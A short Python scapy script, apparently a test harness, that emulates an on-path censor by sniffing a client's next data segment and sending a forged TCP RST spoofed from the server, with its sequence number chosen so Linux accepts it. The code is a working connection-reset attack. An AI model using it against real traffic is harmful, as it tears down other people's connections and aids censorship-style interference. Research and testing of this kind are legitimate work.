#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""Inject a forged RST, as an on-path middlebox (censor, firewall) does.

rst_inject_scapy.py IFACE SERVER_IP SERVER_PORT [TTL]

Sniffs IFACE for the next payload-carrying segment the client sends to
SERVER_IP:SERVER_PORT and answers it, in the server's name, with an RST whose
sequence number is that segment's acknowledgment number: exactly the
receiver's RCV.NXT, so Linux accepts it (RFC 5961 §3.2 makes anything else
only provoke a challenge ACK).  The TTL differs from the server's (64), which
is the evidence that the RST did not come from the endpoint.
"""
import sys

from scapy.all import IP, TCP, conf, send, sniff  # noqa: E402

conf.verb = 0
iface, sip, sport = sys.argv[1], sys.argv[2], int(sys.argv[3])
ttl = int(sys.argv[4]) if len(sys.argv) > 4 else 37


def ready():
    print("sniffing", flush=True)


def forge(p):
    rst = IP(src=sip, dst=p[IP].src, ttl=ttl, id=0) / TCP(
        sport=sport, dport=p[TCP].sport, flags="R", seq=p[TCP].ack,
        window=0)
    send(rst)
    print("injected RST seq=%d ttl=%d to %s:%d" % (p[TCP].ack, ttl, p[IP].src, p[TCP].sport), flush=True)


sniff(iface=iface, count=1, store=False, started_callback=ready,
      filter="tcp and dst host %s and dst port %d and (ip[2:2] - ((ip[0]&0xf)<<2) - ((tcp[12]&0xf0)>>2)) > 0" % (sip, sport),
      prn=forge)
